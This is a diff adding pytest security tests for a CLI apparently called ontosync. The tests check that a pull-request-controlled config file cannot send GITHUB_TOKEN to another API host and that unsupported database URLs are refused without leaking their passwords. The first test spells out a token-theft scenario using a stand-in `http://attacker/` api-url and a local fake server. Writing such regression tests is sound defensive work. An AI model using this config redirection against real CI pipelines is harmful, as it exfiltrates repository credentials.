@@ -1,0 +1,70 @@
+"""Security, round 3 (task h109): hostile input and secrets, where earlier hunts left them open.
+
+Each test names what a user saw before its fix. Everything runs here: the CLI in-process on tiny
+trees, the fake GitHub API (tests/fake_github.py) on 127.0.0.1, no mock.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from tests.fake_github import FakeGitHub
+from tests.helpers import cli
+
+TTL = ("@prefix owl: <http://www.w3.org/2002/07/owl#> .\n"
+       "<http://example.org/h109#{name}> a owl:Class .\n")
+
+
+# -- a configuration file of the checkout may not say where the token goes -------------------------
+
+@pytest.fixture()
+def workspace(tmp_path: Path) -> Path:
+    """A workflow's workspace (the checkout of a pull request) holding `ci/ontosync.yml`."""
+    ws = tmp_path / "ws"
+    (ws / "ci").mkdir(parents=True)
+    return ws
+
+
+def test_a_checkout_config_cannot_send_the_token_to_another_api(workspace, tmp_path):
+    """`ontosync sync github:o/r --config ci/ontosync.yml` (the Action's `repository` and `config`
+    inputs) with `api-url: http://attacker/` in that file, which a pull request may change: the
+    sync sent `Authorization: token $GITHUB_TOKEN` to that host, exit 0 when it answered as GitHub."""
+    src = tmp_path / "src"
+    src.mkdir()
+    (src / "a.ttl").write_text(TTL.format(name="A"), encoding="utf-8")
+    with FakeGitHub(src) as attacker:  # answers only requests that carry the token
+        (workspace / "ci" / "ontosync.yml").write_text(f"api-url: {attacker.url}\n", encoding="utf-8")
+        proc = cli("sync", "github:o/r", "--config", "ci/ontosync.yml", "--db", tmp_path / "x.db", "--quiet",
+                   cwd=workspace, env={"GITHUB_WORKSPACE": str(workspace), "GITHUB_TOKEN": attacker.token,
+                                       "GITHUB_API_URL": "http://127.0.0.1:9"})
+        assert attacker.log == [], attacker.log
+    assert proc.returncode == 2 and "Traceback" not in proc.stderr, proc.stderr
+    line = proc.stderr.strip()
+    assert "\n" not in line and "ci/ontosync.yml" in line and "'api-url'" in line, line
+    assert attacker.token not in proc.stderr + proc.stdout
+
+
+# -- a --db that is neither a PostgreSQL URL nor a path ----------------------------------------------
+
+DB_SECRET = "Pw-H109-db"
+
+
+@pytest.mark.parametrize("db", [f"postgresql+psycopg2://u:{DB_SECRET}@127.0.0.1:9/db",  # SQLAlchemy's spelling
+                                f" postgresql://u:{DB_SECRET}@127.0.0.1:9/db",  # pasted with a blank
+                                f"host=127.0.0.1 port=9 password={DB_SECRET} dbname=db"])  # libpq's key=value
+@pytest.mark.parametrize("command", ["sync", "status"])
+def test_a_database_url_ontosync_does_not_take_is_refused_without_its_password(tmp_path, db, command):
+    """Taken for a SQLite path: `--db postgresql+psycopg2://u:PW@host/db` was refused with the
+    password in the clear (`database not found: postgresql+psycopg2://u:PW@...`, `folder .../u:PW@host
+    does not exist`), a leading blank likewise; libpq's `host=... password=PW dbname=...` was
+    synced, exit 0, into a SQLite file (and checkpoint) named with the password."""
+    (tmp_path / "a.ttl").write_text(TTL.format(name="A"), encoding="utf-8")
+    args = ("sync", tmp_path, "--quiet") if command == "sync" else ("status",)
+    proc = cli(*args, "--db", db, cwd=tmp_path)
+    assert proc.returncode == 2 and "Traceback" not in proc.stderr, proc.stderr
+    lines = proc.stderr.strip().splitlines()
+    assert len(lines) == 1 and lines[0].startswith("ontosync: error: --db "), proc.stderr
+    assert DB_SECRET not in proc.stderr + proc.stdout
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.ttl"]
